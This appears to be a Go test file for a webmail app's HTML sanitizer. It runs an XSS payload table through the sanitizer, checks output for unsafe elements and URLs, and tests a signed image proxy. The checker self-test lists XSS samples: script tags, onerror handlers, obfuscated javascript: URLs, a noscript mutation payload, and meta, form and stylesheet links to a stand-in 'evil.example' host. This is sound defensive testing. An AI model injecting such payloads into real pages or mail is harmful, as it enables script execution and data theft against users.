// unsafeHTMLWith is unsafeHTML where an <img src> for which proxied returns
// true (a signed image proxy URL of this app) is allowed; every other image
// source must still be a safe data: image.
func unsafeHTMLWith(out string, strict bool, proxied func(string) bool) []string {
	var problems []string
	seen := map[string]bool{}
	// One report per problem, naming the first parse that showed it.
	add := func(how, format string, args ...any) {
		p := fmt.Sprintf(format, args...)
		if !seen[p] {
			seen[p] = true
			problems = append(problems, how+": "+p)
		}
	}
	check := func(doc *html.Node, how string) {
		var walk func(n *html.Node)
		walk = func(n *html.Node) {
			if n.Type == html.ElementNode {
				checkElement(n, strict, proxied, func(format string, args ...any) { add(how, format, args...) })
			}
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				walk(c)
			}
		}
		walk(doc)
	}
	for _, scripting := range []bool{true, false} {
		how := "parsed"
		if !scripting {
			how = "parsed without scripting"
		}
		doc, err := html.ParseWithOptions(strings.NewReader(out), html.ParseOptionEnableScripting(scripting))
		if err != nil {
			add(how, "%v", err)
			continue
		}
		check(doc, how)
		var buf strings.Builder
		if err := html.Render(&buf, doc); err != nil {
			add(how, "render: %v", err)
			continue
		}
		doc2, err := html.ParseWithOptions(strings.NewReader(buf.String()), html.ParseOptionEnableScripting(scripting))
		if err != nil {
			add("re-"+how, "%v", err)
			continue
		}
		check(doc2, "re-"+how)
	}
	return problems
}

// checkElement reports what is unsafe about one element.
func checkElement(n *html.Node, strict bool, proxied func(string) bool, add func(string, ...any)) {
	name := strings.ToLower(n.Data)
	if n.Namespace != "" {
		add("<%s> in the %s namespace", name, n.Namespace)
	}
	if dangerousElements[name] {
		add("<%s> element", name)
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		if a.Namespace != "" {
			key = a.Namespace + ":" + key
		}
		v := normURL(a.Val)
		if proxied != nil && name == "img" && key == "src" && proxied(a.Val) {
			continue
		}
		switch {
		case strings.HasPrefix(key, "on"):
			add("event handler %s=%q on <%s>", key, a.Val, name)
			continue
		case key == "srcdoc" || key == "formaction" || key == "action" || key == "http-equiv" || key == "ping":
			add("attribute %s=%q on <%s>", key, a.Val, name)
			continue
		}
		if urlAttrs[key] || key == "style" {
			// A URL attribute is dangerous by its scheme (srcset and ping
			// hold several URLs); a style by any URL in it.
			urls := []string{v}
			if key == "srcset" || key == "ping" {
				urls = strings.FieldsFunc(strings.ToLower(a.Val), func(r rune) bool { return r == ',' || r <= ' ' })
			}
			has := func(scheme string) bool {
				for _, u := range urls {
					if key == "style" && strings.Contains(u, scheme) || strings.HasPrefix(normURL(u), scheme) {
						return true
					}
				}
				return false
			}
			for _, scheme := range []string{"javascript:", "vbscript:", "livescript:", "data:"} {
				if !has(scheme) {
					continue
				}
				if scheme == "data:" && name == "img" && key == "src" && reSafeDataImage.MatchString(strings.TrimSpace(a.Val)) {
					continue
				}
				if key == "style" && scheme == "data:" && !strict {
					continue
				}
				add("%s URL in %s=%q on <%s>", strings.TrimSuffix(scheme, ":"), key, a.Val, name)
			}
		}
		if !strict {
			continue
		}
		if key == "style" {
			if m := reBadCSS.FindString(normCSS(a.Val)); m != "" {
				add("style %q on <%s> has %q", a.Val, name, m)
			}
			continue
		}
		if key == "target" && a.Val != "_blank" {
			add("target=%q on <%s>", a.Val, name)
		}
		if !urlAttrs[key] {
			continue
		}
		if name == "a" && key == "href" || key == "cite" {
			// Links (and cite, which is never loaded) may point anywhere on
			// the web (opened in a new tab, without referrer), but only
			// with these schemes.
			if v != "" && !strings.HasPrefix(v, "#") && !strings.HasPrefix(v, "http:") && !strings.HasPrefix(v, "https:") &&
				!strings.HasPrefix(v, "mailto:") && !strings.HasPrefix(v, "cid:") {
				add("%s=%q on <%s>", key, a.Val, name)
			}
			continue
		}
		// cite (of <q>, <blockquote>, <del>, <ins>) is never loaded.
		if reRemote.MatchString(strings.TrimSpace(a.Val)) || strings.Contains(v, evil) {
			add("remote %s=%q on <%s>", key, a.Val, name)
		}
		if key == "src" && name == "img" && !reSafeDataImage.MatchString(strings.TrimSpace(a.Val)) {
			add("img src=%q is not a safe data: image", a.Val)
		}
	}
	if strict && name == "a" {
		var href, rel, target bool
		for _, a := range n.Attr {
			switch a.Key {
			case "href":
				href = true
			case "rel":
				rel = strings.Contains(a.Val, "noopener") && strings.Contains(a.Val, "noreferrer")
			case "target":
				target = a.Val == "_blank"
			}
		}
		if href && (!rel || !target) {
			add("link without target=_blank rel=\"noopener noreferrer\"")
		}
	}
}

// TestSanitizePayloads runs the payload table through the sanitizer the
// body frame uses, with images blocked (no inline images).
func TestSanitizePayloads(t *testing.T) {
	a := &app{policy: newSanitizer()}
	total := 0
	for _, g := range xssPayloads {
		for i, p := range g.payloads {
			total++
			name := fmt.Sprintf("%s/%d", g.source, i)
			// Also wrapped in the markup of a real mail, so the payload
			// lands inside a table cell and after text.
			for _, in := range []string{p, `<html><body><table><tr><td><p>Yth.</p>` + p + `</td></tr></table></body></html>`} {
				out := string(a.policy.Sanitize(in, nil).HTML)
				for _, problem := range unsafeHTML(out, true) {
					t.Errorf("%s: %s\n  payload: %s\n  output:  %s", name, problem, in, out)
				}
				if strings.Contains(strings.ToLower(out), evil) && !allowedEvilLink(out) {
					t.Errorf("%s: the remote host survived outside a link\n  payload: %s\n  output:  %s", name, in, out)
				}
			}
		}
	}
	if total < 150 {
		t.Errorf("only %d payloads, want at least 150", total)
	}
	for _, g := range xssPayloads {
		t.Logf("%3d payloads from %s", len(g.payloads), g.source)
	}
	t.Logf("%d payloads from %d sources, each alone and inside a mail's table: none unsafe", total, len(xssPayloads))
}

// TestSanitizePayloadsProxied runs the payload table through the body
// frame's sanitizer with remote images shown ("Tampilkan": SanitizeRemote
// with the image proxy, as message_body.go calls it for images=1). The
// invariants are those of TestSanitizePayloads, except that an image may
// also load from a signed /mail/image URL of this app for an http(s)
// source; never directly from another host, and nothing else may point to
// the proxy.
func TestSanitizePayloadsProxied(t *testing.T) {
	now := time.Unix(1_800_000_000, 0)
	a := &app{policy: newSanitizer(), cfg: Config{
		SessionKeys: []KeyPair{{Hash: []byte("0123456789abcdef0123456789abcdef")}},
		Now:         func() time.Time { return now },
	}}
	sess := &session{ID: "payload-session"}
	key := imageProxyKeys(a.cfg.SessionKeys)[0]
	// proxied accepts exactly the URLs the proxy rewriter makes: the proxy
	// path, an absolute http(s) target, this session, a valid signature.
	proxied := func(v string) bool {
		u, err := url.Parse(v)
		if err != nil || u.Scheme != "" || u.Host != "" || u.Path != imageProxyPath {
			return false
		}
		target := u.Query().Get("u")
		if !proxiableURL(target) {
			return false
		}
		return v == imageProxyURL(key, sess.ID, target, now.Add(imageURLLifetime))
	}
	// The checker still flags images that are not this session's signed
	// proxy URLs.
	for _, bad := range []string{
		`<img src="/mail/image?u=https%3A%2F%2Fevil.example%2Fx.png">`,
		`<img src="https://evil.example/x.png">`,
		`<img src="` + imageProxyURL(key, "another-session", "https://evil.example/x.png", now.Add(imageURLLifetime)) + `">`,
	} {
		if len(unsafeHTMLWith(bad, true, proxied)) == 0 {
			t.Errorf("checker missed %s", bad)
		}
	}
	total, rewritten := 0, 0
	for _, g := range xssPayloads {
		for i, p := range g.payloads {
			total++
			name := fmt.Sprintf("%s/%d", g.source, i)
			for _, in := range []string{p, `<html><body><table><tr><td><p>Yth.</p>` + p + `</td></tr></table></body></html>`} {
				out := string(a.policy.SanitizeRemote(in, nil, a.remoteImages(sess)).HTML)
				for _, problem := range unsafeHTMLWith(out, true, proxied) {
					t.Errorf("%s: %s\n  payload: %s\n  output:  %s", name, problem, in, out)
				}
				if strings.Contains(strings.ToLower(out), evil) && !allowedEvilLinkWith(out, proxied) {
					t.Errorf("%s: the remote host survived outside a link or a proxied image\n  payload: %s\n  output:  %s", name, in, out)
				}
				// The proxy path only ever as an image source.
				if n := strings.Count(out, imageProxyPath+"?"); n > 0 {
					if m := len(reProxiedImg.FindAllString(out, -1)); m != n {
						t.Errorf("%s: %d mentions of the image proxy, %d of them image sources\n  output: %s", name, n, m, out)
					}
					rewritten++
				}
			}
		}
	}
	// The table has remote images: the proxy path must really have run.
	if rewritten == 0 {
		t.Error("no payload image went through the proxy rewrite")
	}
	t.Logf("%d payloads (%d outputs with proxied images), each alone and inside a mail's table: none unsafe", total, rewritten)
}

// reProxiedImg matches an image whose source is the image proxy, as the
// sanitizer writes it.
var reProxiedImg = regexp.MustCompile(`<img [^>]*src="` + regexp.QuoteMeta(imageProxyPath) + `\?`)

// allowedEvilLink reports whether every mention of the remote host in out
// is in the href of a link (links may point anywhere; clicking one opens
// a new tab without referrer).
func allowedEvilLink(out string) bool {
	return allowedEvilLinkWith(out, nil)
}

// allowedEvilLinkWith is allowedEvilLink that also allows the host inside
// an <img src> for which proxied returns true (a signed image proxy URL,
// whose u parameter names the remote image).
func allowedEvilLinkWith(out string, proxied func(string) bool) bool {
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		return false
	}
	ok := true
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.TextNode:
			// Text is shown, never loaded.
		case html.ElementNode:
			for _, a := range n.Attr {
				if proxied != nil && n.Data == "img" && a.Key == "src" && proxied(a.Val) {
					continue
				}
				if strings.Contains(strings.ToLower(a.Val), evil) && !(n.Data == "a" && a.Key == "href") && a.Key != "cite" && a.Key != "title" && a.Key != "alt" {
					ok = false
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return ok
}

// TestSanitizePayloadsChecker makes sure the checker itself sees what it
// looks for: each of these outputs must be reported.
func TestSanitizePayloadsChecker(t *testing.T) {
	for _, bad := range []string{
		`<script>alert(1)</script>`,
		`<img src="x" onerror="alert(1)">`,
		`<a href="jav&#x09;ascript:alert(1)">x</a>`,
		`<a href="vbscript:x">x</a>`,
		`<a href="data:text/html,x">x</a>`,
		`<img src="https://evil.example/x.png">`,
		`<img src="//evil.example/x.png">`,
		`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
		`<img srcset="https://evil.example/x.png 2x">`,
		`<table background="https://evil.example/x.png"></table>`,
		`<div style="background:url(https://evil.example/x.png)">x</div>`,
		`<div style="position:fixed">x</div>`,
		`<div style="pos\ition: fixed">x</div>`,
		`<svg><a xlink:href="javascript:alert(1)">x</a></svg>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<a href="https://example.org">no rel</a>`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<link rel=stylesheet href="https://evil.example/x.css">`,
		`<form action="https://evil.example/"></form>`,
		`<base href="https://evil.example/">`,
		`<style>@import "x"</style>`,
	} {
		if len(unsafeHTML(bad, true)) == 0 {
			t.Errorf("checker missed %s", bad)
		}
	}
	for _, good := range []string{
		`<p>Halo</p>`,
		`<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">`,
		`<table width="600" bgcolor="#fff"><tr><td style="color: red; padding: 4px">x</td></tr></table>`,
	} {
		if p := unsafeHTML(good, true); len(p) != 0 {
			t.Errorf("checker flags safe %s: %q", good, p)
		}
	}
}
